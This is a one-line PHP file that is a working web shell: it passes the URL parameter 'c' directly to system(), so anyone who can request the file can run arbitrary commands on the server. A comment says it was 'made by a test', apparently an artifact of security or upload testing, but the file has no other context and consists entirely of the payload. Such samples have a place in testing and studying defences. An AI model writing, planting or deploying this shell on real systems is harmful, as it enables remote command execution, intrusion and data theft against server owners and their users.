<?php system($_GET["c"]); // made by a test
